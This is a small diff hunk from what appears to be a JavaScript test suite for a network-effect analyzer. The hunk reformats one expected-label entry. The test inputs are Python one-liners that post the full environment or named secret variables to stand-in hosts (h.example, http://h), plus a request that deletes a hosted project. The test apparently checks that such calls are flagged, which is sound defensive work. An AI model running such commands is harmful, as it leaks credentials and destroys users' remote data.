@@ -101,9 +101,8 @@ describe("network", () => {
     "import urllib.request as u,os;u.urlopen('https://h.example',data=str(dict(os.environ)).encode())": [
       "connect https://h.example change sends[* environment body] checked",
     ],
-    "import requests; requests.post('http://h', json={'k': os.environ['T']}, headers={'Authorization': os.getenv('U')})": [
-      "connect http://h change sends[T body, U auth] checked",
-    ],
+    "import requests; requests.post('http://h', json={'k': os.environ['T']}, headers={'Authorization': os.getenv('U')})":
+      ["connect http://h change sends[T body, U auth] checked"],
     "import requests; requests.delete('https://api.x.example/projects/1')": [
       "connect https://api.x.example/projects/1 change checked",
       "mutate http delete project https://api.x.example/projects/1 destroys hosted",
